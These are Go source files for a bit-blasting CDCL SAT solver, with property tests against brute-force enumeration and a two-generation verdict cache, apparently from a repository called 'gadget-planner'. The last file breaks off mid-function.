		switch n.Kind {
		case expr.KindNot:
			return b.notBits(x), nil
		case expr.KindNeg:
			out, _ := b.addBits(b.notBits(x), b.constBits(1, uint8(len(x))), b.falseLit())
			return out, nil
		case expr.KindZext:
			out := append(append([]lit(nil), x...), b.constBits(0, n.Width-uint8(len(x)))...)
			return out, nil
		case expr.KindSext:
			out := append([]lit(nil), x...)
			for uint8(len(out)) < n.Width {
				out = append(out, x[len(x)-1])
			}
			return out, nil
		default: // Trunc
			return append([]lit(nil), x[:n.Width]...), nil
		}

	case expr.KindIte:
		c, err := b.boolLit(n.Args[0])
		if err != nil {
			return nil, err
		}
		x, err := b.bits(n.Args[1])
		if err != nil {
			return nil, err
		}
		y, err := b.bits(n.Args[2])
		if err != nil {
			return nil, err
		}
		out := make([]lit, len(x))
		for i := range x {
			out[i] = b.muxGate(c, x[i], y[i])
		}
		return out, nil
	}

	x, err := b.bits(n.Args[0])
	if err != nil {
		return nil, err
	}
	y, err := b.bits(n.Args[1])
	if err != nil {
		return nil, err
	}
	switch n.Kind {
	case expr.KindAdd:
		out, _ := b.addBits(x, y, b.falseLit())
		return out, nil
	case expr.KindSub:
		out, _ := b.addBits(x, b.notBits(y), b.trueLit)
		return out, nil
	case expr.KindMul:
		return b.mulBits(x, y), nil
	case expr.KindAnd:
		out := make([]lit, len(x))
		for i := range x {
			out[i] = b.andGate(x[i], y[i])
		}
		return out, nil
	case expr.KindOr:
		out := make([]lit, len(x))
		for i := range x {
			out[i] = b.orGate(x[i], y[i])
		}
		return out, nil
	case expr.KindXor:
		out := make([]lit, len(x))
		for i := range x {
			out[i] = b.xorGate(x[i], y[i])
		}
		return out, nil
	case expr.KindShl:
		return b.shiftBits(x, y, 0), nil
	case expr.KindLshr:
		return b.shiftBits(x, y, 1), nil
	case expr.KindAshr:
		return b.shiftBits(x, y, 2), nil
	}
	return nil, fmt.Errorf("solver: cannot blast bitvector kind %d", n.Kind)
}

// boolLit lowers a boolean node to a single literal.
func (b *blaster) boolLit(n *expr.Node) (lit, error) {
	if n.Width != expr.BoolWidth {
		return 0, fmt.Errorf("solver: boolLit on width-%d node", n.Width)
	}
	if got, ok := b.bl[n.ID()]; ok {
		return got, nil
	}
	out, err := b.boolLitUncached(n)
	if err != nil {
		return 0, err
	}
	b.bl[n.ID()] = out
	return out, nil
}

func (b *blaster) boolLitUncached(n *expr.Node) (lit, error) {
	switch n.Kind {
	case expr.KindConst:
		return b.constLit(n.Val == 1), nil
	case expr.KindVar:
		if got, ok := b.vars[n.Name]; ok {
			return got[0], nil
		}
		l := b.fresh()
		b.vars[n.Name] = []lit{l}
		return l, nil
	case expr.KindBNot:
		x, err := b.boolLit(n.Args[0])
		if err != nil {
			return 0, err
		}
		return x.not(), nil
	case expr.KindBAnd, expr.KindBOr:
		x, err := b.boolLit(n.Args[0])
		if err != nil {
			return 0, err
		}
		y, err := b.boolLit(n.Args[1])
		if err != nil {
			return 0, err
		}
		if n.Kind == expr.KindBAnd {
			return b.andGate(x, y), nil
		}
		return b.orGate(x, y), nil
	case expr.KindEq, expr.KindUlt, expr.KindSlt:
		x, err := b.bits(n.Args[0])
		if err != nil {
			return 0, err
		}
		y, err := b.bits(n.Args[1])
		if err != nil {
			return 0, err
		}
		switch n.Kind {
		case expr.KindEq:
			return b.eqBits(x, y), nil
		case expr.KindUlt:
			return b.ultBits(x, y), nil
		default:
			return b.sltBits(x, y), nil
		}
	case expr.KindIte:
		c, err := b.boolLit(n.Args[0])
		if err != nil {
			return 0, err
		}
		x, err := b.boolLit(n.Args[1])
		if err != nil {
			return 0, err
		}
		y, err := b.boolLit(n.Args[2])
		if err != nil {
			return 0, err
		}
		return b.muxGate(c, x, y), nil
	}
	return 0, fmt.Errorf("solver: cannot blast boolean kind %d", n.Kind)
}

// model extracts concrete variable values after a SAT result.
func (b *blaster) model(varWidths map[string]uint8) expr.Env {
	env := make(expr.Env, len(b.vars))
	for name, bits := range b.vars {
		var v uint64
		for i, l := range bits {
			bitVal := b.sat.modelValue(l.variable())
			if l.negated() {
				bitVal = !bitVal
			}
			if bitVal {
				v |= 1 << i
			}
		}
		env[name] = v
		_ = varWidths
	}
	return env
}
