package solver

import (
	"math/rand"
	"strconv"
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/expr"
)

// TestTriageVerdictsMatchBruteForce is the triage ground-truth property
// test: for random narrow-width formula DAGs, every verdict API must agree
// with exhaustive enumeration over all environments, with triage on and
// off, and the two solvers must agree with each other.
func TestTriageVerdictsMatchBruteForce(t *testing.T) {
	rng := rand.New(rand.NewSource(11))
	for iter := 0; iter < 60; iter++ {
		b := expr.NewBuilder()
		x := b.Var("x", 8)
		y := b.Var("y", 8)
		vars := []*expr.Node{x, y}
		p := randomBool(rng, b, vars, 3)
		q := randomBool(rng, b, vars, 3)

		// Brute-force truths over the full 2^16 environment space,
		// stopping once all three are settled.
		pSat, pValid := false, true
		impliesPQ := true
	scan:
		for xv := 0; xv < 256; xv++ {
			for yv := 0; yv < 256; yv++ {
				env := expr.Env{"x": uint64(xv), "y": uint64(yv)}
				pv, err := expr.EvalBool(p, env)
				if err != nil {
					t.Fatalf("eval: %v", err)
				}
				qv, err := expr.EvalBool(q, env)
				if err != nil {
					t.Fatalf("eval: %v", err)
				}
				pSat = pSat || pv
				pValid = pValid && pv
				if pv && !qv {
					impliesPQ = false
				}
				if pSat && !pValid && !impliesPQ {
					break scan
				}
			}
		}

		triage := Default()
		blast := New(Options{DisableTriage: true})
		for name, s := range map[string]*Solver{"triage": triage, "blast": blast} {
			if got := s.Sat(p); got != pSat {
				t.Errorf("iter %d [%s]: Sat(%s) = %v, brute force %v", iter, name, p, got, pSat)
			}
			if got := s.Valid(b, p); got != pValid {
				t.Errorf("iter %d [%s]: Valid(%s) = %v, brute force %v", iter, name, p, got, pValid)
			}
			if got := s.Implies(b, p, q); got != impliesPQ {
				t.Errorf("iter %d [%s]: Implies = %v, brute force %v", iter, name, got, impliesPQ)
			}
		}
	}
}

// TestTriageEquivalenceMatchesBruteForce does the same for bitvector-term
// equivalence, the subsumption equal-post query shape.
func TestTriageEquivalenceMatchesBruteForce(t *testing.T) {
	rng := rand.New(rand.NewSource(13))
	for iter := 0; iter < 80; iter++ {
		b := expr.NewBuilder()
		x := b.Var("x", 8)
		y := b.Var("y", 8)
		vars := []*expr.Node{x, y}
		u := randomBV(rng, b, vars, 3)
		v := randomBV(rng, b, vars, 3)

		equal := true
	outer:
		for xv := 0; xv < 256; xv++ {
			for yv := 0; yv < 256; yv++ {
				env := expr.Env{"x": uint64(xv), "y": uint64(yv)}
				uv, err := expr.Eval(u, env)
				if err != nil {
					t.Fatalf("eval: %v", err)
				}
				vv, err := expr.Eval(v, env)
				if err != nil {
					t.Fatalf("eval: %v", err)
				}
				if uv != vv {
					equal = false
					break outer
				}
			}
		}

		triage := Default()
		blast := New(Options{DisableTriage: true})
		if got := triage.EquivalentBV(b, u, v); got != equal {
			t.Errorf("iter %d [triage]: EquivalentBV(%s, %s) = %v, brute force %v", iter, u, v, got, equal)
		}
		if got := blast.EquivalentBV(b, u, v); got != equal {
			t.Errorf("iter %d [blast]: EquivalentBV(%s, %s) = %v, brute force %v", iter, u, v, got, equal)
		}
	}
}

// TestTriageCountsTiers checks the counters: an easily refuted implication
// is screened by T1 without blasting, and a valid identity must blast.
func TestTriageCountsTiers(t *testing.T) {
	b := expr.NewBuilder()
	x := b.Var("x", 64)
	y := b.Var("y", 64)
	s := Default()

	// x != y in general: refuted by concrete screening.
	if s.EquivalentBV(b, x, y) {
		t.Fatal("distinct variables equivalent?")
	}
	if s.EvalRefuted != 1 || s.Blasted != 0 {
		t.Errorf("after refutable query: eval=%d blasted=%d, want 1/0", s.EvalRefuted, s.Blasted)
	}

	// A true identity cannot be refuted concretely and must be blasted.
	if !s.EquivalentBV(b, b.Xor(x, y), b.Or(b.And(b.Not(x), y), b.And(x, b.Not(y)))) {
		t.Fatal("xor identity failed")
	}
	if s.Blasted != 1 {
		t.Errorf("after identity proof: blasted=%d, want 1", s.Blasted)
	}

	// Repeating the identity is a cache hit, not another blast.
	if !s.EquivalentBV(b, b.Xor(x, y), b.Or(b.And(b.Not(x), y), b.And(x, b.Not(y)))) {
		t.Fatal("xor identity failed on repeat")
	}
	if s.CacheHits != 1 || s.Blasted != 1 {
		t.Errorf("after repeat: cached=%d blasted=%d, want 1/1", s.CacheHits, s.Blasted)
	}
}

// TestWitnessReuse forces a query whose refutation the T1 battery cannot
// find, then checks the witness from the full solve screens a second query
// refuted by the same assignment.
func TestWitnessReuse(t *testing.T) {
	b := expr.NewBuilder()
	x := b.Var("x", 64)
	s := Default()

	// x == 0xDECAF: satisfiable only at a value no corner or pseudo-random
	// probe hits, so the first query must blast and yields the model as a
	// witness.
	magic := b.Eq(x, b.Const(0xDECAF, 64))
	if !s.Sat(magic) {
		t.Fatal("x == 0xDECAF should be satisfiable")
	}
	if s.Blasted != 1 || s.EvalRefuted != 0 {
		t.Fatalf("first query: blasted=%d eval=%d, want 1/0", s.Blasted, s.EvalRefuted)
	}

	// x == 0xDECAF && x != 5: the same witness refutes the validity of the
	// negation (i.e. proves Sat) without blasting.
	f := b.BAnd(magic, b.Ne(x, b.Const(5, 64)))
	if !s.Sat(f) {
		t.Fatal("conjunction should be satisfiable")
	}
	if s.WitnessRefuted != 1 {
		t.Errorf("witness refutations = %d, want 1 (blasted=%d)", s.WitnessRefuted, s.Blasted)
	}
	if s.Blasted != 1 {
		t.Errorf("second query blasted (blasted=%d), want witness reuse", s.Blasted)
	}
}

func TestWitnessStoreBounds(t *testing.T) {
	var w witnessStore
	for i := 0; i < 3*maxWitnesses; i++ {
		w.add(expr.Env{"v": uint64(i)})
	}
	if len(w.envs) != maxWitnesses {
		t.Fatalf("store grew to %d, cap %d", len(w.envs), maxWitnesses)
	}
	// Most recent first.
	if w.envs[0]["v"] != uint64(3*maxWitnesses-1) {
		t.Errorf("front = %v, want most recent", w.envs[0])
	}
	// touch moves an entry to the front.
	last := w.envs[len(w.envs)-1]
	w.touch(len(w.envs) - 1)
	if w.envs[0]["v"] != last["v"] {
		t.Errorf("touch did not move entry to front")
	}
	if len(w.envs) != maxWitnesses {
		t.Errorf("touch changed size to %d", len(w.envs))
	}
}

// TestCacheGenerations exercises the two-generation rotation directly: a
// burst past the per-generation capacity must retain recent entries instead
// of discarding everything.
func TestCacheGenerations(t *testing.T) {
	s := Default()
	// Fill exactly one generation.
	for i := 0; i < maxCacheGeneration; i++ {
		s.cachePut(strconv.Itoa(i), Sat)
	}
	if len(s.prevCache) != 0 {
		t.Fatalf("premature rotation: prev=%d", len(s.prevCache))
	}
	// The next insert rotates; the old generation must remain readable.
	s.cachePut("fresh", Unsat)
	if len(s.prevCache) != maxCacheGeneration {
		t.Fatalf("rotation did not demote: prev=%d", len(s.prevCache))
	}
	if r, ok := s.cacheGet("7"); !ok || r != Sat {
		t.Fatalf("previous-generation entry lost after rotation")
	}
	// The hit promoted the entry into the current generation.
	if _, ok := s.cache["7"]; !ok {
		t.Errorf("previous-generation hit was not promoted")
	}
	if r, ok := s.cacheGet("fresh"); !ok || r != Unsat {
		t.Fatalf("current-generation entry lost")
	}
}

// TestGateHashConsingShares proves the gate-level memoization shares CNF
// across structurally identical gates from different expr nodes: lowering
// ult(x,y) and slt(x,y) together must cost fewer clauses than the sum of
// lowering them separately (both build the same subtractor).
func TestGateHashConsingShares(t *testing.T) {
	b := expr.NewBuilder()
	x := b.Var("x", 16)
	y := b.Var("y", 16)

	clausesFor := func(nodes ...*expr.Node) int {
		sat := newSAT()
		bl := newBlaster(sat)
		for _, n := range nodes {
			if _, err := bl.boolLit(n); err != nil {
				t.Fatal(err)
			}
		}
		return len(sat.clauses)
	}

	ult := clausesFor(b.Ult(x, y))
	slt := clausesFor(b.Slt(x, y))
	both := clausesFor(b.Ult(x, y), b.Slt(x, y))
	if both >= ult+slt {
		t.Errorf("no sharing: ult=%d slt=%d together=%d", ult, slt, both)
	}
}

// TestTriageDisabledMatches pins that the DisableTriage switch changes no
// verdict on the solver's own test identities.
func TestTriageDisabledMatches(t *testing.T) {
	b := expr.NewBuilder()
	x := b.Var("x", 64)
	y := b.Var("y", 64)
	on := Default()
	off := New(Options{DisableTriage: true})
	cases := []*expr.Node{
		b.Eq(b.Add(x, y), b.Add(b.Xor(x, y), b.Shl(b.And(x, y), b.Const(1, 64)))),
		b.Eq(b.Add(x, y), b.Sub(x, y)),
		b.Ult(x, b.Const(10, 64)),
		b.BAnd(b.Eq(x, b.Const(3, 64)), b.Eq(x, b.Const(4, 64))),
	}
	for i, f := range cases {
		if got, want := on.Sat(f), off.Sat(f); got != want {
			t.Errorf("case %d: triage Sat=%v, blast Sat=%v", i, got, want)
		}
		if got, want := on.Valid(b, f), off.Valid(b, f); got != want {
			t.Errorf("case %d: triage Valid=%v, blast Valid=%v", i, got, want)
		}
	}
}
