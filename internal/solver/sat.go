// Package solver decides satisfiability, implication, and equivalence of
// expr formulas. It is the repository's Z3 stand-in: formulas are bit-blasted
// to CNF (Tseitin encoding with ripple-carry adders, shift-add multipliers,
// barrel shifters and comparators) and decided by a CDCL SAT solver with
// two-literal watching, VSIDS branching, first-UIP clause learning and
// geometric restarts.
package solver

// Literal encoding: variables are numbered from 1; the literal for variable v
// is v<<1 (positive) or v<<1|1 (negated).
type lit int32

func mkLit(v int32, neg bool) lit {
	l := lit(v << 1)
	if neg {
		l |= 1
	}
	return l
}

func (l lit) variable() int32 { return int32(l >> 1) }
func (l lit) negated() bool   { return l&1 == 1 }
func (l lit) not() lit        { return l ^ 1 }

// value of an assignment.
type tribool int8

const (
	unassigned tribool = iota
	vTrue
	vFalse
)

func (t tribool) not() tribool {
	switch t {
	case vTrue:
		return vFalse
	case vFalse:
		return vTrue
	}
	return unassigned
}

// clause is a disjunction of literals. The first two literals are watched.
type clause struct {
	lits     []lit
	learned  bool
	activity float64
}

// satSolver is a CDCL SAT solver.
type satSolver struct {
	clauses []*clause
	learned []*clause
	watches [][]*clause // indexed by literal

	assign  []tribool // indexed by variable
	level   []int32
	reason  []*clause
	trail   []lit
	trailLo []int32 // decision-level boundaries in trail
	qhead   int

	activity []float64
	varInc   float64
	heap     *varHeap
	polarity []bool // phase saving

	clauseInc   float64
	maxLearned  int
	conflicts   int64
	propagation int64

	ok bool // false once a top-level contradiction is found
}

func newSAT() *satSolver {
	s := &satSolver{
		varInc:     1,
		clauseInc:  1,
		maxLearned: 4096,
		ok:         true,
	}
	s.heap = newVarHeap(&s.activity)
	s.newVar() // variable 0 is unused padding
	return s
}

// newVar allocates a fresh variable.
func (s *satSolver) newVar() int32 {
	v := int32(len(s.assign))
	s.assign = append(s.assign, unassigned)
	s.level = append(s.level, 0)
	s.reason = append(s.reason, nil)
	s.activity = append(s.activity, 0)
	s.polarity = append(s.polarity, false)
	s.watches = append(s.watches, nil, nil)
	if v != 0 {
		s.heap.push(v)
	}
	return v
}

func (s *satSolver) valueLit(l lit) tribool {
	v := s.assign[l.variable()]
	if v == unassigned {
		return unassigned
	}
	if l.negated() {
		return v.not()
	}
	return v
}

func (s *satSolver) decisionLevel() int32 { return int32(len(s.trailLo)) }

// addClause installs a problem clause, simplifying against top-level
// assignments. Returns false if the formula became trivially unsat.
func (s *satSolver) addClause(lits []lit) bool {
	if !s.ok {
		return false
	}
	// Deduplicate and drop tautologies / false literals at level 0.
	seen := make(map[lit]bool, len(lits))
	out := lits[:0:0]
	for _, l := range lits {
		switch {
		case s.valueLit(l) == vTrue && s.level[l.variable()] == 0:
			return true // already satisfied
		case s.valueLit(l) == vFalse && s.level[l.variable()] == 0:
			continue // cannot help
		case seen[l.not()]:
			return true // tautology
		case seen[l]:
			continue
		}
		seen[l] = true
		out = append(out, l)
	}
	switch len(out) {
	case 0:
		s.ok = false
		return false
	case 1:
		if !s.enqueue(out[0], nil) {
			s.ok = false
			return false
		}
		return s.propagate() == nil
	}
	c := &clause{lits: out}
	s.clauses = append(s.clauses, c)
	s.watch(c)
	return true
}

func (s *satSolver) watch(c *clause) {
	s.watches[c.lits[0].not()] = append(s.watches[c.lits[0].not()], c)
	s.watches[c.lits[1].not()] = append(s.watches[c.lits[1].not()], c)
}

// enqueue assigns a literal true with the given reason clause.
func (s *satSolver) enqueue(l lit, from *clause) bool {
	switch s.valueLit(l) {
	case vTrue:
		return true
	case vFalse:
		return false
	}
	v := l.variable()
	if l.negated() {
		s.assign[v] = vFalse
	} else {
		s.assign[v] = vTrue
	}
	s.level[v] = s.decisionLevel()
	s.reason[v] = from
	s.trail = append(s.trail, l)
	return true
}

// propagate performs unit propagation; returns a conflicting clause or nil.
func (s *satSolver) propagate() *clause {
	for s.qhead < len(s.trail) {
		l := s.trail[s.qhead]
		s.qhead++
		s.propagation++

		ws := s.watches[l]
		s.watches[l] = ws[:0]
		for i := 0; i < len(ws); i++ {
			c := ws[i]
			// Ensure the false literal is lits[1].
			if c.lits[0] == l.not() {
				c.lits[0], c.lits[1] = c.lits[1], c.lits[0]
			}
			if s.valueLit(c.lits[0]) == vTrue {
				s.watches[l] = append(s.watches[l], c)
				continue
			}
			// Look for a new literal to watch.
			moved := false
			for k := 2; k < len(c.lits); k++ {
				if s.valueLit(c.lits[k]) != vFalse {
					c.lits[1], c.lits[k] = c.lits[k], c.lits[1]
					s.watches[c.lits[1].not()] = append(s.watches[c.lits[1].not()], c)
					moved = true
					break
				}
			}
			if moved {
				continue
			}
			// Clause is unit or conflicting.
			s.watches[l] = append(s.watches[l], c)
			if !s.enqueue(c.lits[0], c) {
				// Conflict: restore remaining watches and report.
				s.watches[l] = append(s.watches[l], ws[i+1:]...)
				s.qhead = len(s.trail)
				return c
			}
		}
	}
	return nil
}

// analyze computes a first-UIP learned clause and a backtrack level.
func (s *satSolver) analyze(confl *clause) ([]lit, int32) {
	learnt := []lit{0} // placeholder for the asserting literal
	seen := make(map[int32]bool)
	counter := 0
	var p lit = -1
	idx := len(s.trail) - 1

	for {
		for _, q := range confl.lits {
			if p != -1 && q == p {
				continue
			}
			v := q.variable()
			if seen[v] || s.level[v] == 0 {
				continue
			}
			seen[v] = true
			s.bumpVar(v)
			if s.level[v] == s.decisionLevel() {
				counter++
			} else {
				learnt = append(learnt, q)
			}
		}
		// Find the next marked literal on the trail.
		for !seen[s.trail[idx].variable()] {
			idx--
		}
		p = s.trail[idx]
		idx--
		v := p.variable()
		seen[v] = false
		counter--
		if counter == 0 {
			learnt[0] = p.not()
			break
		}
		confl = s.reason[v]
	}

	// Compute backtrack level: the max level among the non-asserting lits.
	btLevel := int32(0)
	if len(learnt) > 1 {
		maxI := 1
		for i := 2; i < len(learnt); i++ {
			if s.level[learnt[i].variable()] > s.level[learnt[maxI].variable()] {
				maxI = i
			}
		}
		learnt[1], learnt[maxI] = learnt[maxI], learnt[1]
		btLevel = s.level[learnt[1].variable()]
	}
	return learnt, btLevel
}

func (s *satSolver) bumpVar(v int32) {
	s.activity[v] += s.varInc
	if s.activity[v] > 1e100 {
		for i := range s.activity {
			s.activity[i] *= 1e-100
		}
		s.varInc *= 1e-100
	}
	s.heap.update(v)
}

func (s *satSolver) decayActivities() {
	s.varInc /= 0.95
	s.clauseInc /= 0.999
}

// backtrackTo undoes assignments above the given level.
func (s *satSolver) backtrackTo(level int32) {
	if s.decisionLevel() <= level {
		return
	}
	bound := s.trailLo[level]
	for i := len(s.trail) - 1; i >= int(bound); i-- {
		l := s.trail[i]
		v := l.variable()
		s.polarity[v] = !l.negated()
		s.assign[v] = unassigned
		s.reason[v] = nil
		s.heap.pushIfAbsent(v)
	}
	s.trail = s.trail[:bound]
	s.trailLo = s.trailLo[:level]
	s.qhead = len(s.trail)
}

// pickBranchVar selects the unassigned variable with highest activity.
func (s *satSolver) pickBranchVar() int32 {
	for s.heap.size() > 0 {
		v := s.heap.pop()
		if s.assign[v] == unassigned {
			return v
		}
	}
	return 0
}

// reduceLearned removes the least active half of the learned clauses that
// are not currently reasons.
func (s *satSolver) reduceLearned() {
	if len(s.learned) < s.maxLearned {
		return
	}
	// Sort learned clauses by activity (simple selection: median split via
	// counting would be overkill; copy-sort).
	sorted := append([]*clause(nil), s.learned...)
	for i := 1; i < len(sorted); i++ {
		for j := i; j > 0 && sorted[j].activity < sorted[j-1].activity; j-- {
			sorted[j], sorted[j-1] = sorted[j-1], sorted[j]
		}
	}
	locked := make(map[*clause]bool)
	for _, r := range s.reason {
		if r != nil {
			locked[r] = true
		}
	}
	remove := make(map[*clause]bool)
	for _, c := range sorted[:len(sorted)/2] {
		if !locked[c] && len(c.lits) > 2 {
			remove[c] = true
		}
	}
	if len(remove) == 0 {
		return
	}
	kept := s.learned[:0]
	for _, c := range s.learned {
		if !remove[c] {
			kept = append(kept, c)
		}
	}
	s.learned = kept
	for li := range s.watches {
		ws := s.watches[li][:0]
		for _, c := range s.watches[li] {
			if !remove[c] {
				ws = append(ws, c)
			}
		}
		s.watches[li] = ws
	}
}

// solveResult is the outcome of a solve call.
type solveResult int8

const (
	resUnknown solveResult = iota
	resSat
	resUnsat
)

// solve runs CDCL search under the given assumptions with a conflict budget.
func (s *satSolver) solve(assumptions []lit, maxConflicts int64) solveResult {
	if !s.ok {
		return resUnsat
	}
	s.backtrackTo(0)
	if s.propagate() != nil {
		s.ok = false
		return resUnsat
	}

	restartLimit := int64(100)
	conflictsAtStart := s.conflicts

	for {
		confl := s.propagate()
		if confl != nil {
			s.conflicts++
			if s.decisionLevel() == 0 {
				return resUnsat
			}
			// Conflict below the assumption levels means the assumptions
			// themselves are inconsistent with the formula.
			learnt, btLevel := s.analyze(confl)
			if int(btLevel) < len(assumptions) {
				btLevel = int32(len(assumptions))
				if s.decisionLevel() <= btLevel {
					return resUnsat
				}
			}
			s.backtrackTo(btLevel)
			if len(learnt) == 1 {
				s.backtrackTo(0)
				if !s.enqueue(learnt[0], nil) {
					s.ok = false
					return resUnsat
				}
				// Re-assert assumptions on the next loop iterations.
				if r := s.reassume(assumptions); r != resUnknown {
					return r
				}
				continue
			}
			c := &clause{lits: learnt, learned: true, activity: s.clauseInc}
			s.learned = append(s.learned, c)
			s.watch(c)
			if !s.enqueue(learnt[0], c) {
				return resUnsat
			}
			s.decayActivities()
			if s.conflicts-conflictsAtStart > maxConflicts {
				return resUnknown
			}
			if s.conflicts%restartLimit == 0 {
				restartLimit = restartLimit * 3 / 2
				s.backtrackTo(int32(len(assumptions)))
				if r := s.reassume(assumptions); r != resUnknown {
					return r
				}
			}
			s.reduceLearned()
			continue
		}

		// Assert pending assumptions, one decision level each.
		if int(s.decisionLevel()) < len(assumptions) {
			a := assumptions[s.decisionLevel()]
			switch s.valueLit(a) {
			case vTrue:
				// Already implied: introduce an empty decision level.
				s.trailLo = append(s.trailLo, int32(len(s.trail)))
			case vFalse:
				return resUnsat
			default:
				s.trailLo = append(s.trailLo, int32(len(s.trail)))
				s.enqueue(a, nil)
			}
			continue
		}

		v := s.pickBranchVar()
		if v == 0 {
			return resSat
		}
		s.trailLo = append(s.trailLo, int32(len(s.trail)))
		s.enqueue(mkLit(v, !s.polarity[v]), nil)
	}
}

// reassume replays assumptions after a restart or unit backjump. It returns
// resUnsat if an assumption is already false, resUnknown otherwise.
func (s *satSolver) reassume(assumptions []lit) solveResult {
	for int(s.decisionLevel()) < len(assumptions) {
		if c := s.propagate(); c != nil {
			if s.decisionLevel() == 0 {
				s.ok = false
			}
			return resUnsat
		}
		a := assumptions[s.decisionLevel()]
		if s.valueLit(a) == vFalse {
			return resUnsat
		}
		s.trailLo = append(s.trailLo, int32(len(s.trail)))
		s.enqueue(a, nil)
	}
	return resUnknown
}

// modelValue returns the assignment of a variable after resSat.
func (s *satSolver) modelValue(v int32) bool {
	return s.assign[v] == vTrue
}

// varHeap is a max-heap of variables ordered by activity.
type varHeap struct {
	heap     []int32
	indices  map[int32]int
	activity *[]float64
}

func newVarHeap(act *[]float64) *varHeap {
	return &varHeap{indices: make(map[int32]int), activity: act}
}

func (h *varHeap) size() int { return len(h.heap) }

func (h *varHeap) less(i, j int) bool {
	return (*h.activity)[h.heap[i]] > (*h.activity)[h.heap[j]]
}

func (h *varHeap) swap(i, j int) {
	h.heap[i], h.heap[j] = h.heap[j], h.heap[i]
	h.indices[h.heap[i]] = i
	h.indices[h.heap[j]] = j
}

func (h *varHeap) up(i int) {
	for i > 0 {
		parent := (i - 1) / 2
		if !h.less(i, parent) {
			break
		}
		h.swap(i, parent)
		i = parent
	}
}

func (h *varHeap) down(i int) {
	for {
		l, r := 2*i+1, 2*i+2
		smallest := i
		if l < len(h.heap) && h.less(l, smallest) {
			smallest = l
		}
		if r < len(h.heap) && h.less(r, smallest) {
			smallest = r
		}
		if smallest == i {
			return
		}
		h.swap(i, smallest)
		i = smallest
	}
}

func (h *varHeap) push(v int32) {
	h.heap = append(h.heap, v)
	h.indices[v] = len(h.heap) - 1
	h.up(len(h.heap) - 1)
}

func (h *varHeap) pushIfAbsent(v int32) {
	if _, ok := h.indices[v]; !ok {
		h.push(v)
	}
}

func (h *varHeap) pop() int32 {
	v := h.heap[0]
	last := len(h.heap) - 1
	h.swap(0, last)
	h.heap = h.heap[:last]
	delete(h.indices, v)
	if last > 0 {
		h.down(0)
	}
	return v
}

func (h *varHeap) update(v int32) {
	if i, ok := h.indices[v]; ok {
		h.up(i)
	}
}
