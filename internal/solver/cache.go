package solver

import (
	"encoding/binary"

	"github.com/nofreelunch/gadget-planner/internal/expr"
)

// The verdict cache memoizes Sat/Unsat/Unknown outcomes keyed by a canonical
// serialization of the query DAG. Keys are structural, not pointer-based, so
// logically identical queries hit the cache even when their nodes were built
// in different (e.g. per-bucket scratch) builders. Unknown verdicts are safe
// to cache because they are a deterministic function of the query and the
// solver's MaxConflicts budget, which is fixed per Solver.

// maxCacheEntries bounds the verdict cache; once full, the cache is cleared
// rather than grown (the workload is bursts of related queries, so recent
// entries matter most and a wholesale reset is simpler than eviction).
const maxCacheEntries = 1 << 20

// cacheKey canonically serializes the conjunction query. Nodes are numbered
// in first-visit (post-order) order and each is encoded with its kind,
// width, payload, and child indices — an injective encoding of the DAG, so
// distinct queries can never collide.
func cacheKey(formulas []*expr.Node) string {
	var buf []byte
	idx := make(map[*expr.Node]uint64)
	var visit func(n *expr.Node) uint64
	visit = func(n *expr.Node) uint64 {
		if i, ok := idx[n]; ok {
			return i
		}
		var args [3]uint64
		for i, a := range n.Args {
			args[i] = visit(a)
		}
		i := uint64(len(idx))
		idx[n] = i
		buf = append(buf, byte(n.Kind), n.Width, byte(len(n.Args)))
		buf = binary.AppendUvarint(buf, n.Val)
		buf = binary.AppendUvarint(buf, uint64(len(n.Name)))
		buf = append(buf, n.Name...)
		for j := 0; j < len(n.Args); j++ {
			buf = binary.AppendUvarint(buf, args[j])
		}
		return i
	}
	for _, f := range formulas {
		root := visit(f)
		buf = append(buf, 0xFF)
		buf = binary.AppendUvarint(buf, root)
	}
	return string(buf)
}

// checkVerdict decides the conjunction like Check but without producing a
// model, serving and populating the verdict cache. Queries answered from the
// cache still count toward Queries (the logical query count stays
// deterministic regardless of cache state) and increment CacheHits.
func (s *Solver) checkVerdict(formulas ...*expr.Node) Result {
	key := cacheKey(formulas)
	if r, ok := s.cache[key]; ok {
		s.Queries++
		s.CacheHits++
		return r
	}
	r, _ := s.Check(formulas...)
	if len(s.cache) >= maxCacheEntries {
		s.cache = make(map[string]Result)
	}
	s.cache[key] = r
	return r
}
