package solver

import (
	"encoding/binary"

	"github.com/nofreelunch/gadget-planner/internal/expr"
)

// The verdict cache memoizes Sat/Unsat/Unknown outcomes keyed by a canonical
// serialization of the query DAG. Keys are structural, not pointer-based, so
// logically identical queries hit the cache even when their nodes were built
// in different (e.g. per-bucket scratch) builders. Unknown verdicts are safe
// to cache because they are a deterministic function of the query and the
// solver's MaxConflicts budget, which is fixed per Solver; Sat verdicts
// recorded from witness replay are safe because a concrete satisfying
// assignment certifies Sat regardless of provenance (see triage.go).
//
// The cache is bounded by a two-generation scheme: entries are inserted into
// the current generation, and when it fills, the current generation is
// demoted to "previous" (dropping the old previous) rather than the whole
// cache being cleared. Lookups consult both generations and promote
// previous-generation hits, so a burst of queries that crosses the capacity
// boundary retains its hot entries instead of restarting cold.

// maxCacheGeneration bounds each of the two generations, so the cache holds
// at most 2*maxCacheGeneration verdicts.
const maxCacheGeneration = 1 << 19

// cacheKey canonically serializes the conjunction query. Nodes are numbered
// in first-visit (post-order) order and each is encoded with its kind,
// width, payload, and child indices — an injective encoding of the DAG, so
// distinct queries can never collide.
func cacheKey(formulas []*expr.Node) string {
	var buf []byte
	idx := make(map[*expr.Node]uint64)
	var visit func(n *expr.Node) uint64
	visit = func(n *expr.Node) uint64 {
		if i, ok := idx[n]; ok {
			return i
		}
		var args [3]uint64
		for i, a := range n.Args {
			args[i] = visit(a)
		}
		i := uint64(len(idx))
		idx[n] = i
		buf = append(buf, byte(n.Kind), n.Width, byte(len(n.Args)))
		buf = binary.AppendUvarint(buf, n.Val)
		buf = binary.AppendUvarint(buf, uint64(len(n.Name)))
		buf = append(buf, n.Name...)
		for j := 0; j < len(n.Args); j++ {
			buf = binary.AppendUvarint(buf, args[j])
		}
		return i
	}
	for _, f := range formulas {
		root := visit(f)
		buf = append(buf, 0xFF)
		buf = binary.AppendUvarint(buf, root)
	}
	return string(buf)
}

// cacheGet looks a verdict up in both generations. A hit in the previous
// generation is promoted into the current one so it survives the next
// rotation.
func (s *Solver) cacheGet(key string) (Result, bool) {
	if r, ok := s.cache[key]; ok {
		return r, true
	}
	if r, ok := s.prevCache[key]; ok {
		s.cachePut(key, r)
		return r, true
	}
	return Unknown, false
}

// cachePut records a verdict, rotating generations when the current one is
// full.
func (s *Solver) cachePut(key string, r Result) {
